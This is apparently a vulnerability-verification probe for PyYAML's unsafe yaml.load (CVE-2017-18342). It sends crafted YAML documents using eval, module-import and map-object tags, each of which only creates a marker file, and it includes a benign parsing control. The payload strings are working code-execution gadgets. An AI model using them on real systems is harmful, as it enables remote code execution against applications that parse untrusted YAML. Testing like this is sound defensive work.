# /// vertice-probe
# id = "PYSEC-2018-49"
# aliases = ["CVE-2017-18342", "GHSA-rprw-h62v-c2w7"]
# package = "pyyaml"
# summary = "yaml.load without a loader obeys tags that import modules and call functions, so a document runs code."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-20", "CWE-502"]
# kind = "rce"
# symbols = ["yaml.load", "yaml.load_all", "yaml.Loader"]
#
# [[affected]]
# package = "pyyaml"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "5.1" }] }]
#
# [cases]
# attack = "load of a document that applies eval writes a marker file"
# [cases.variants]
# import_module = "load_all of a document that names a module imports it, which runs the module"
# object_new = "load of a document that builds objects out of map and eval writes the marker"
# [cases.controls]
# mapping = "load of an ordinary document gives the ordinary values"
#
# [test]
# vulnerable = "4.2b4"
# fixed = "5.4"
# build-constraints = ["cython<3"]
# ///
"""CVE-2017-18342: the default loader of yaml.load calls Python functions.

5.1 made another loader the default, which refuses functions but still builds objects that call them; what was
left got numbers of its own (CVE-2020-1747, CVE-2020-14343) and yaml.load runs no code since 5.4 only.
"""

import collections
import collections.abc
import inspect
import json
import os
import sys
import tempfile
import warnings

warnings.simplefilter("ignore")
if not hasattr(collections, "Hashable"):  # these releases look for it where it was until Python 3.9
    collections.Hashable = collections.abc.Hashable
BASE = tempfile.mkdtemp()
MARKER = os.path.join(BASE, "marker")


def default(function):
    """yaml.load or load_all as called without a loader; where one must be named, the loader that took over."""
    import yaml

    parameter = inspect.signature(function).parameters["Loader"]
    if parameter.default is parameter.empty:
        return lambda document: function(document, Loader=yaml.FullLoader)
    return function


def load_and_look(load, document):
    import yaml

    try:
        load(document)
    except yaml.constructor.ConstructorError as error:
        refusal = error.problem
    else:
        refusal = ""
    if os.path.exists(MARKER):
        return "exploited", "code named by the document created the marker file"
    if not refusal:
        return "error", "the document was loaded without calling anything"
    return "blocked", "ConstructorError: %s" % refusal


def attack():
    import yaml

    document = "!!python/object/apply:eval [\"open('%s', 'w').close()\"]\n" % MARKER
    return load_and_look(default(yaml.load), document)


def import_module():
    import yaml

    with open(os.path.join(BASE, "side_effect.py"), "w") as module:
        module.write("open(%r, 'w').close()\n" % MARKER)
    sys.path.insert(0, BASE)
    load_all = default(yaml.load_all)
    return load_and_look(
        lambda document: list(load_all(document)), "--- {a: 1}\n--- [!!python/module:side_effect '']\n"
    )


def object_new():
    import yaml

    document = (
        "!!python/object/new:tuple\n"
        "- !!python/object/new:map\n"
        "  - !!python/name:eval\n"
        "  - [ \"open('%s', 'w').close()\" ]\n"
    )
    return load_and_look(default(yaml.load), document % MARKER)


def mapping():
    import yaml

    got = default(yaml.load)("order: 7\nitems:\n  - {sku: A-1, price: 9.5}\npaid: true\n")
    wanted = {"order": 7, "items": [{"sku": "A-1", "price": 9.5}], "paid": True}
    return ("works", "parsed as written") if got == wanted else ("broken", repr(got))


CASES = {"attack": attack, "import_module": import_module, "object_new": object_new, "mapping": mapping}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
